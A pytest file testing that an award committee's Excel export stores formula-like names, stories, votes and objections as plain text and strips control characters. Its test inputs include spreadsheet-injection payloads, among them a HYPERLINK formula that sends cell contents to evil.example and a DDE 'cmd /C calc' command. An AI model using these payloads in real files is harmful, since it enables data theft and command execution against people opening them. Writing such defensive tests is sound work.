"""The committee's Excel file holds what people wrote as text: a name, story, objection or vote
comment that looks like a formula stays words, and a stray control character in one resident's
objection never stops the file from being made."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from services.ledger.awards.documents import export_workbook

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def a_cycle(text: str = "2026年度 民族团结之星") -> dict:
    return {
        "title": text,
        "unit_name": "北仑区",
        "period_start": "2026-01-01",
        "period_end": "2026-12-31",
        "criteria": {"min_points": 40, "min_activities": 2, "min_dimensions": 3, "max_no_shows": 1},
        "quota": 2,
        "committee_members": [{"account_id": "m1", "name": text}],
        "quorum": 1,
        "majority": 0.667,
        "notice_days": 5,
        "status_label": "公示中",
        "notice_started_on": "2026-12-01",
        "notice_ends_on": "2026-12-05",
        "tie_break": {"reason": text},
    }


def a_candidate(name: str, story: str, comment: str) -> dict:
    return {
        "rank": 1,
        "name": name,
        "unit_name": "富春社区",
        "points": 65,
        "activities": 3,
        "hours": "5.0",
        "dimensions": 3,
        "no_shows": 0,
        "tally": {"approve": 1, "reject": 0, "abstain": 0, "recused": 0, "outcome": "approved"},
        "status": "proposed",
        "story": story,
        "certificate_code": None,
        "evidence": {
            "points_by_month": [{"month": "2026-03", "points": 40}],
            "activities": [
                {"date": "2026-03-08", "title": story, "hours": "3.5", "dimensions": ["culture"]}
            ],
            "no_shows": [],
        },
        "votes": [
            {
                "member_name": name,
                "member_id": "m1",
                "decision": "approve",
                "comment": comment,
                "cast_at": "2026-11-20T10:00:00+08:00",
                "changed_at": None,
            }
        ],
    }


def an_objection(reason: str) -> dict:
    return {
        "candidate_name": "阿依古丽",
        "reason": reason,
        "lodged_at": "2026-12-02T09:00:00+08:00",
        "status": "pending",
        "decided_by_name": None,
        "decision_reason": None,
    }


def a_trail(text: str) -> list[dict]:
    return [
        {
            "at": "2026-12-02T09:00:00+08:00",
            "actor_id": "m1",
            "action": "award.objected",
            "detail": {"by": text, "reason": text},
        }
    ]


def workbook_of(text: str) -> bytes:
    return export_workbook(
        a_cycle(text),
        [a_candidate(text, text, text)],
        [an_objection(text)],
        a_trail(text),
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    data = workbook_of(text)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 6
        for name in sheets:
            assert b"<f>" not in package.read(name), name  # no cell holds a formula
    book = load_workbook(io.BytesIO(data))
    candidate = book["候选人"]
    text = text.replace("\r", "\n")  # XML reads a line break as LF
    assert candidate["B2"].value == text  # the words are kept as written ...
    assert candidate["B2"].data_type == "s" and candidate["B2"].quotePrefix  # ... as text
    assert book["候选人"]["O2"].value == text  # the story
    assert book["投票"]["D2"].value == text and book["投票"]["D2"].quotePrefix
    assert book["异议"]["B2"].value == text and book["异议"]["B2"].quotePrefix


def test_ordinary_words_and_numbers_are_left_as_they_are():
    book = load_workbook(io.BytesIO(workbook_of("邻里节 帮忙翻译")))
    assert book["候选人"]["B2"].value == "邻里节 帮忙翻译" and not book["候选人"]["B2"].quotePrefix
    assert book["候选人"]["D2"].value == 65 and book["候选人"]["D2"].data_type == "n"


def test_a_control_character_in_an_objection_is_left_out_and_the_file_is_made():
    reason = "她\x00没有\x08参加\x0b活动\x1f\ufffe，\r\n请核实\t谢谢"
    book = load_workbook(io.BytesIO(workbook_of(reason)))
    kept = "她没有参加活动，\n请核实\t谢谢"  # XML reads CR LF as LF
    assert book["异议"]["B2"].value == kept
    assert book["评选"]["B2"].value == kept
    assert book["记录"]["B2"].value == kept
